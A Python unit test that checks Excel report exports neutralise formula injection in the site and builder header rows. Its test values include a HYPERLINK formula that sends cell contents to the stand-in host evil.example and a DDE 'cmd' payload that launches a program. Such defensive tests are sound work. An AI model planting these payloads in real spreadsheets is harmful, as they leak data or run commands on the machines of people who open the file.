"""Issue 16, item 8: the facts rows on top of the Excel exports (site, builder) are escaped like the
data rows, so a site or builder named "=HYPERLINK(…)" is text in Excel, never a formula."""
from dataclasses import replace
from io import BytesIO

import pytest
from openpyxl import load_workbook

from reports.exports import daily_xlsx, period_xlsx
from tests.unit.test_reports_exports import DAILY, PERIOD

HOSTILE_SITE = '=HYPERLINK("https://evil.example/?"&A1,"Klikk")'
HOSTILE_BUILDER = "+cmd|' /C calc'!A0"


def cells(content: bytes) -> list:
    workbook = load_workbook(BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


@pytest.mark.parametrize("render, report", [(daily_xlsx, DAILY), (period_xlsx, PERIOD)])
def test_a_hostile_site_or_builder_name_is_text_in_the_header_rows(render, report):
    site = replace(report.site, name=HOSTILE_SITE, builder_name=HOSTILE_BUILDER, address="@SUM(1+1)")
    found = cells(render(replace(report, site=site)))
    assert not [c.coordinate for c in found if c.data_type == "f"], "a header cell became a formula"
    texts = [c.value for c in found if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
    assert f"'{HOSTILE_SITE}, @SUM(1+1)" in texts  # kept whole, as the CSV keeps a data cell
    if render is daily_xlsx:
        assert f"'{HOSTILE_BUILDER}" in texts

